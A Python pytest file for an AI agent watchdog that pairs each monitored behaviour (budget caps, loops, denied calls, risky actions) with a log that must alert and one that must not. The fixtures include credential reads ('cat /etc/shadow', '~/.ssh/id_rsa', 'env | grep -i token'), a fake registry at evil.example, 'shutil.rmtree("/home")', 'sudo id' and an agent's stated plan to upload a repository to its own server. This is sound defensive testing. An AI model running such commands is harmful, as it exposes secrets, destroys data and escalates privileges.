"""Each monitor: a log that must alert, and the nearest log that must not."""

from __future__ import annotations

from typing import Any, NamedTuple

import pytest
from event_logs import (
    ENTER,
    LEAVE,
    Step,
    alerts,
    attempt,
    call,
    change,
    paused,
    process,
    response,
    result,
    sample,
)

from steelyard.monitors.watchdog import has_secrets


class Row(NamedTuple):
    code: str
    alerting: list[Step]
    quiet: list[Step]
    policy: dict[str, Any] = {}  # noqa: RUF012  # rows of a table, never changed
    budget: dict[str, Any] = {}  # noqa: RUF012
    every_s: float = 1.0


def breakers(**named: Any) -> dict[str, Any]:
    return {"breakers": named}


A_TO_B, B_TO_A = change("f", "a", "b"), change("f", "b", "a")
LS = call("ls")
TRIES = breakers(repeated_call={"times": 3, "action": "terminate"})
TURNS = breakers(oscillation={"times": 3, "action": "terminate"})
IDLE = breakers(idle_tests={"times": 2, "action": "throttle"})
STALL = breakers(no_progress={"minutes": 1, "calls": 5, "action": "terminate"})
AGAIN = breakers(reinstall={"times": 2, "action": "terminate"})
BURST = breakers(burst={"calls": 4, "within_s": 2, "action": "throttle"})
REPEAT = breakers(idle_tests={"times": 2, "action": "throttle"}, repeat={"times": 2, "action": "terminate"})
TEST = call("pytest -q")

ROWS = {
    "tokens over the cap": Row(
        "token_cap",
        [ENTER, response(tokens=60), response(tokens=41)],
        [ENTER, response(tokens=60), response(tokens=40)],
        budget={"tokens": 100},
    ),
    "dollars over the cap, less the head-room": Row(
        "cost_cap",
        [ENTER, ("cost", {"usd": 0.96})],
        [ENTER, ("cost", {"usd": 0.94})],
        budget={"cost_usd": 1.0, "headroom": {"cost_fraction": 0.05}},
    ),
    "units over the cap": Row(
        "cost_cap",
        [ENTER, ("cost", {"usd": None, "units": 11})],
        [ENTER, ("cost", {"usd": None, "units": 9})],
        budget={"cost_units": 11.0},
    ),
    "more tool calls than the cap": Row(
        "tool_call_cap",
        [ENTER, call("a"), call("b"), call("c")],
        [ENTER, call("a"), call("b")],
        budget={"tool_calls": 2},
    ),
    "failed test runs": Row(
        "failed_check_cap",
        [ENTER, TEST, result(1), TEST, result(1)],
        [ENTER, TEST, result(1), TEST, result(0), call("false"), result(1)],
        budget={"failed_checks": 1},
    ),
    "installations over the cap": Row(
        "dependency_loop",
        [ENTER, call("pip install a"), call("npm install b")],
        [ENTER, call("pip install a"), call("pip list"), call("npm test")],
        budget={"dependency_installs": 1},
    ),
    "an installation that starts itself again counts once": Row(
        "dependency_loop",
        [ENTER, process("pip", "install", "a", key="5-1"), process("pip", "install", "b", key="6-1")],
        [
            ENTER,
            process("sh", "-c", "pip install a", key="5-1"),
            process("pip", "install", "a", key="6-1", parent="5-1"),
        ],
        budget={"dependency_installs": 1},
    ),
    "CPU seconds": Row(
        "cpu_time", [ENTER, sample(cpu_s=5.1)], [ENTER, sample(cpu_s=5.0)], budget={"cpu_s": 5.0}
    ),
    "memory": Row(
        "memory",
        [ENTER, sample(memory_bytes=65 << 20)],
        [ENTER, sample(memory_bytes=64 << 20)],
        budget={"memory_mb": 64},
    ),
    "disk": Row(
        "disk",
        [ENTER, sample(disk_bytes=9 << 20)],
        [ENTER, sample(disk_bytes=8 << 20)],
        budget={"disk_mb": 8},
    ),
    "processes": Row(
        "processes", [ENTER, sample(processes=9)], [ENTER, sample(processes=8)], budget={"processes": 8}
    ),
    "a long command": Row(
        "command_time",
        [ENTER, call("make"), sample(), sample(), sample()],
        [ENTER, call("make"), sample(), result(), sample(), sample()],
        budget={"command_s": 2.5},
    ),
    "units of tool calls, once an answer of a model cost units": Row(
        "cost_cap",
        [ENTER, ("cost", {"units": 1}), call("a"), result(), call("b"), result()],
        [ENTER, ("cost", {"usd": 1.0}), call("a"), result(), call("b"), result()],
        budget={"cost_units": 3.0, "headroom": {"cost_fraction": 0.0}},
    ),
    "the same call again": Row(
        "repeated_call", [ENTER, LS, LS, LS], [ENTER, LS, LS, call("ls -l"), LS], TRIES
    ),
    "the same call after a change": Row(
        "repeated_call", [ENTER, A_TO_B, LS, LS, LS], [ENTER, LS, LS, A_TO_B, LS, LS], TRIES
    ),
    "sampled processes count where the contract says so": Row(
        "repeated_call",
        [ENTER, *[process("ls", key=f"{n}-1") for n in range(3)]],
        [ENTER, *[process("ls", key=f"{n}-1") for n in range(2)]],
        breakers(repeated_call={"times": 3, "action": "terminate"}, sampled=True),
    ),
    "back and forth": Row(
        "oscillation",
        [ENTER, A_TO_B, LS, B_TO_A, LS, A_TO_B, LS, B_TO_A, LS],
        [ENTER, A_TO_B, LS, B_TO_A, LS, A_TO_B, LS, change("f", "b", "c"), LS],
        TURNS,
    ),
    "tests without an edit": Row("idle_tests", [ENTER, TEST, TEST], [ENTER, TEST, A_TO_B, TEST], IDLE),
    "tests that fail one after the other": Row(
        "failed_tests",
        [ENTER, TEST, result(1), A_TO_B, TEST, result(1), B_TO_A, TEST, result(2)],
        [ENTER, TEST, result(1), A_TO_B, TEST, result(1), TEST, result(0), A_TO_B, TEST, result(1)],
        breakers(failed_tests={"times": 3, "action": "suspend_writes"}),
    ),
    "the same dependency again": Row(
        "reinstall",
        [ENTER, call("pip install x==1"), call("pip install -q x")],
        [ENTER, call("pip install x"), call("pip install y")],
        AGAIN,
    ),
    "no new state in so many calls": Row(
        "no_progress",
        [ENTER, A_TO_B, *[call(str(n)) for n in range(6)]],
        [ENTER, A_TO_B, *[call(str(n)) for n in range(4)], change("f", "b", "c"), call("x"), call("y")],
        STALL,
    ),
    "no new state for so long, without the time of a pause": Row(
        "no_progress",
        [ENTER, *[sample()] * 30, paused("pause"), *[sample()] * 90, paused("resume"), *[sample()] * 32],
        [ENTER, *[sample()] * 30, paused("pause"), *[sample()] * 90, paused("resume"), *[sample()] * 26],
        STALL,
    ),
    "a denied system call": Row(
        "privilege_escalation",
        [ENTER, attempt("call", "ptrace")],
        [ENTER, attempt("call", "io_uring_setup")],
    ),
    "a denied address family": Row(
        "network", [ENTER, attempt("call", "socket")], [ENTER, attempt("call", "personality")]
    ),
    "a connection to another machine": Row(
        "network",
        [ENTER, attempt("connect", "connect", "192.0.2.7:443", "")],
        [attempt("connect", "connect", "192.0.2.7:443", ""), ENTER],
    ),
    "a refused write to a system folder": Row(
        "destructive",
        [ENTER, attempt("open", "openat", "/etc/hosts", "EROFS")],
        [ENTER, attempt("open", "openat", "/usr/lib/python3/__pycache__/a.pyc", "EROFS")],
    ),
    "a refused change of a system folder": Row(
        "destructive",
        [ENTER, attempt("open", "unlink", "/usr/bin/true", "EROFS")],
        [ENTER, attempt("open", "mkdir", "/usr/lib/python3/__pycache__", "EROFS")],
    ),
    "a refused write elsewhere": Row(
        "denied_open",
        [ENTER, attempt("open", "openat", "/opt/data", "EACCES")],
        [ENTER, attempt("open", "openat", "/etc/hosts", "EACCES")],
    ),
    "a refused write to a setting of a process": Row(
        "denied_open",
        [ENTER, attempt("open", "openat", "/proc/7/oom_score_adj", "EROFS")],
        [ENTER, attempt("open", "openat", "/proc/7/coredump_filter", "EROFS")],
    ),
    "a refused write to what starts later": Row(
        "persistence",
        [ENTER, attempt("open", "openat", "/etc/cron.d/x", "EACCES")],
        [ENTER, attempt("open", "openat", "/opt/cron.d/x", "EACCES")],
    ),
    "a refused write to a secret": Row(
        "secret_access",
        [ENTER, attempt("open", "openat", "/etc/shadow", "EACCES")],
        [ENTER, attempt("open", "openat", "/etc/hosts", "EACCES")],
    ),
    "a refused read of a secret": Row(
        "secret_access",
        [ENTER, attempt("read", "openat", "/proc/1/environ", "EACCES")],
        [ENTER, attempt("read", "openat", "/proc/1/syscall", "EACCES")],
    ),
    "a refused read elsewhere": Row(
        "denied_read",
        [ENTER, attempt("read", "openat", "/opt/data", "EACCES")],
        [ENTER, attempt("list", "openat", "/opt/data", "EACCES")],
    ),
    "a refused look into a folder of secrets": Row(
        "secret_access",
        [ENTER, attempt("list", "openat", "/root/.ssh", "EACCES")],
        [ENTER, attempt("list", "openat", "/root", "EACCES")],
    ),
    "a program with the rights of another user": Row(
        "privilege_escalation",
        [ENTER, attempt("exec", "execve", "/usr/bin/su", "EPERM")],
        [ENTER, attempt("exec", "execve", "/usr/bin/mount", "EPERM")],
    ),
    "a program that may not be executed": Row(
        "denied_exec",
        [ENTER, attempt("exec", "execve", "/tmp/plain", "EACCES")],
        [ENTER, LEAVE, attempt("exec", "execve", "/tmp/plain", "EACCES")],
    ),
    "no new state for so long": Row(
        "no_progress",
        [ENTER, *[sample()] * 62],
        [ENTER, *[sample()] * 59, call("x"), *[sample()] * 10],
        STALL,
    ),
    "a burst of calls": Row(
        "burst",
        [ENTER, *[call(str(n)) for n in range(4)]],
        [ENTER, *[call(str(n)) for n in range(3)]],
        BURST,
        {},
        0.1,
    ),
    "a breaker that trips again": Row(
        "breaker_repeat", [ENTER, TEST, TEST, TEST, TEST], [ENTER, TEST, TEST, A_TO_B, TEST], REPEAT
    ),
    "a denied program": Row(
        "deny_commands",
        [ENTER, call("cd x && curl http://localhost")],
        [ENTER, call("grep curl README.md")],
        {"deny_commands": ["curl"]},
    ),
    "a denied command line": Row(
        "deny_commands",
        [ENTER, call("git push origin main")],
        [ENTER, call("git pull")],
        {"deny_commands": ["git push*"]},
    ),
    "a path outside of read_paths": Row(
        "read_paths",
        [ENTER, ("tool.call", {"kind": "read", "path": "secret/a.txt"})],
        [ENTER, ("tool.call", {"kind": "read", "path": "src/a.txt"}), call("cat src/a.txt /usr/include/x.h")],
        {"read_paths": ["src/**", "src/*"]},
    ),
    "a command that reads outside of read_paths": Row(
        "read_paths",
        [ENTER, call("head ../other/x")],
        [ENTER, call("echo ../other/x")],
        {"read_paths": ["src/*"]},
    ),
    "a denied tool": Row(
        "tools",
        [ENTER, ("tool.call", {"kind": "network", "name": "web_search"})],
        [ENTER, ("tool.call", {"kind": "read", "name": "view"})],
        {"tools": {"deny": ["web_*"]}},
    ),
    "a tool that is not allowed": Row(
        "tools",
        [ENTER, ("tool.call", {"kind": "execute", "name": "shell"})],
        [ENTER, ("tool.call", {"kind": "read", "name": "view"})],
        {"tools": {"allow": ["read", "edit"]}},
    ),
    "a package that is not allowed": Row(
        "dependencies",
        [ENTER, call("pip install evil==1")],
        [ENTER, call("pip install 'requests[socks]>=2' -r requirements.txt")],
        {"dependencies": {"allow": ["requests"]}},
    ),
    "a registry that is not allowed": Row(
        "dependencies",
        [ENTER, call("pip install --index-url https://evil.example/simple a")],
        [ENTER, call("pip install --index-url https://pypi.example/simple a")],
        {"dependencies": {"registries": ["pypi.example"]}},
    ),
    "a risky command": Row("privilege_escalation", [ENTER, call("sudo id")], [ENTER, call("echo sudo id")]),
    "a risky process": Row(
        "secret_access", [ENTER, process("cat", "/etc/shadow")], [ENTER, process("cat", "/etc/hostname")]
    ),
    "risky code": Row(
        "destructive",
        [ENTER, ("tool.call", {"kind": "write", "content": 'shutil.rmtree("/home")'})],
        [ENTER, ("tool.call", {"kind": "write", "content": 'shutil.rmtree("build")'})],
    ),
    "a risky plan": Row(
        "exfiltration",
        [ENTER, response("I upload the repository to my server.")],
        [ENTER, response("I fix the upload form.")],
    ),
}


@pytest.mark.parametrize("row", ROWS.values(), ids=ROWS)
def test_a_log_that_must_alert_does(row: Row) -> None:
    raised = alerts(row.alerting, policy=row.policy, budget=row.budget, every_s=row.every_s)
    found = [one for one in raised if one["code"] == row.code]
    assert found, raised
    assert found[0]["events"]


@pytest.mark.parametrize("row", ROWS.values(), ids=ROWS)
def test_the_nearest_log_that_must_not_alert_does_not(row: Row) -> None:
    raised = alerts(row.quiet, policy=row.policy, budget=row.budget, every_s=row.every_s)
    assert row.code not in {one["code"] for one in raised}


def test_the_processes_of_a_long_command_are_those_that_were_seen_before_the_next_call() -> None:
    steps = [ENTER, process("agent", key="1-1"), call("make"), process("make", key="2-2"), call("ls")]
    steps += [process("ls", key="3-3"), sample(), sample(), sample()]
    (first, *_) = alerts(steps, budget={"command_s": 2.5})
    assert (first["code"], first["action"], first["processes"]) == ("command_time", "kill", ["2-2"])


def test_the_agents_own_command_line_breaks_no_rule() -> None:
    """The operator wrote it."""
    assert not alerts(
        [ENTER, ("tool.call", {"kind": "execute", "argv": ["sudo", "my-agent"], "whole_agent": True})]
    )


def test_a_built_in_rule_is_advisory_unless_the_contract_gives_its_class_an_action() -> None:
    (advisory,) = alerts([ENTER, call("sudo id")])
    assert (advisory["severity"], advisory["action"]) == ("advisory", "alert")
    (binding,) = alerts([ENTER, call("sudo id")], policy={"rules": {"privilege_escalation": "pause"}})
    assert (binding["severity"], binding["action"]) == ("violation", "pause")


@pytest.mark.parametrize(
    ("step", "format_"),
    [
        (call("sudo id"), "shell"),
        (("tool.call", {"kind": "write", "code": 'os.system("sudo id")'}), "code"),
        (call("""python3 -c 'import os; os.setuid(0)'"""), "code"),
        (response("I will run it with sudo."), "text"),
        (response("First I run `sudo id` there."), "text"),
        (response("Run:\n```bash\nsudo id\n```\n"), "shell"),
    ],
)
def test_a_match_records_its_format(step: Step, format_: str) -> None:
    assert {one["format"] for one in alerts([ENTER, step])} == {format_}


def test_a_penalty_lowers_the_reward_and_stops_nothing() -> None:
    policy = {"effect": "penalty", "dependencies": {"allow": ["a"]}, "deny_commands": ["curl"]}
    mild, grave = alerts([ENTER, call("pip install b"), call("curl")], policy=policy)
    assert (mild["severity"], mild["action"]) == ("penalty", "alert")
    assert (grave["severity"], grave["action"]) == ("violation", "terminate")


def test_an_alert_names_the_stage_in_which_it_was_raised() -> None:
    raised = alerts(
        [ENTER, call("sudo a"), LEAVE, ("check.start", {"id": "x"}), response("I will use sudo.")]
    )
    assert [one["stage"] for one in raised] == ["write", "acceptance"]


def test_files_that_a_build_makes_and_removes_are_no_oscillation() -> None:
    """Of an agent that reports no calls, only the contract can say that sampled processes are its decisions."""
    made, removed = change("lock", None, "x"), change("lock", "x", None)
    steps = [ENTER, *[made, sample(), removed, process("make", key="3-3")] * 20]
    assert not alerts(steps)
    sampled = {"breakers": {"sampled": True}}
    assert "oscillation" in {one["code"] for one in alerts(steps, policy=sampled)}


@pytest.mark.parametrize("words", [("env",), ("sh", "-c", "env"), ("printenv",), ("bash", "-lc", "set")])
def test_a_client_that_lists_its_environment_is_no_alert_where_it_is_given_no_secret(
    words: tuple[str, ...],
) -> None:
    steps = [ENTER, process(*words)]
    assert not alerts(steps, has_secrets=False)
    assert [one["code"] for one in alerts(steps, has_secrets=True)] == ["secret_access"]


@pytest.mark.parametrize(
    "line", ["env | grep -i token", "env > /tmp/a", "echo $API_KEY", "cat ~/.ssh/id_rsa"]
)
def test_a_search_for_secrets_is_an_alert_where_there_are_none(line: str) -> None:
    found = alerts([ENTER, process("sh", "-c", line)], has_secrets=False)
    assert "secret_access" in [one["code"] for one in found]


def test_an_environment_that_an_agent_asks_for_by_a_tool_is_an_alert() -> None:
    assert [one["code"] for one in alerts([ENTER, call("env")], has_secrets=False)] == ["secret_access"]


@pytest.mark.parametrize(
    ("manifest", "expected"),
    [
        ({}, True),
        ({"agent": {"env": {}}, "environment": {"declared_absent": ["secrets"], "declared_env": {}}}, False),
        ({"agent": {"env": {"KEY": "redacted"}}, "environment": {"declared_absent": ["secrets"]}}, True),
        ({"agent": {"env": {}}, "environment": {"declared_absent": []}}, True),
        (
            {
                "agent": {"env": {}},
                "environment": {"declared_absent": ["secrets"], "declared_env": {"A": "${A}"}},
            },
            True,
        ),
    ],
)
def test_the_manifest_says_whether_the_agent_is_given_a_secret(
    manifest: dict[str, Any], *, expected: bool
) -> None:
    assert has_secrets(manifest) is expected
